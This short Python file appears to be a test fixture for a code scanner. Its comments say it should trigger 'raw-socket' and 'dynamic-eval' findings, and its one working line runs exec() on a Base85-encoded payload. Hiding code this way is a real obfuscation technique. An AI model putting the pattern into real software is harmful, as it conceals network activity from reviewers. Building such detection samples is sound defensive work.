# expect: raw-socket,dynamic-eval
# source: issue 4
# technique: exec of base64.b85decode output
import base64

exec(base64.b85decode(b"X>D+Ca&#bbZ)0m^bP97IJs@*$V{2t}E^}{VYh`pODGGBgV{dM5Wn*+GC?_&7GcGVLF)=ePHzzD0G&D3cDJcp"))
